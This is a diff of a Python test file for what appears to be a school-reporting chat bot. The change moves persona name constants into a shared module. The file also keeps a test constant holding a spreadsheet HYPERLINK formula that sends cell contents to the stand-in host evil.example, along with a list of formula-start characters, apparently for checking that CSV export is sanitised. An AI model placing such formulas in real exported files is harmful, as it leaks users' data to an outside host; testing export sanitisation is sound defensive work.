@@ -42,11 +42,9 @@ from bot.services.reporting.export_data import FILES
 from bot.services.roadmaps.roadmap_import import HEADERS as HEADERS_ROW
 from tests.support.factories import load_demo_data, person_named, school_named
 from tests.support.harness import BotHarness
+from tests.support.personas import COORDINATOR, CURATOR, DIRECTOR, TELYATNIKOV
 
 NOW = datetime(2026, 11, 24, 7, 0, tzinfo=UTC)  # 12:00 in Kamensk-Uralsky (UTC+5)
-COORDINATOR = "Плотникова Тамара Андреевна"
-CURATOR = "Смирнова Светлана Анатольевна"  # Лицей № 9 and СШ № 17
-DIRECTOR = "Гареева Л.Г."  # СШ № 17
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 CSV_MIME = "text/csv"
@@ -528,6 +526,6 @@ async def test_export_with_files_refused_to_a_school_and_empty_without_files(
 ) -> None:
     director = await city.login(DIRECTOR)
     assert (await city.send(director, "/export")).text == texts.REFUSED
-    curator = await city.login("Телятников Александр Юрьевич")  # СШ № 35 and СШ № 51: no files
+    curator = await city.login(TELYATNIKOV)  # СШ № 35 and СШ № 51: no files
     reply = await city.send(curator, "/export")
     assert reply.last.button_texts == []
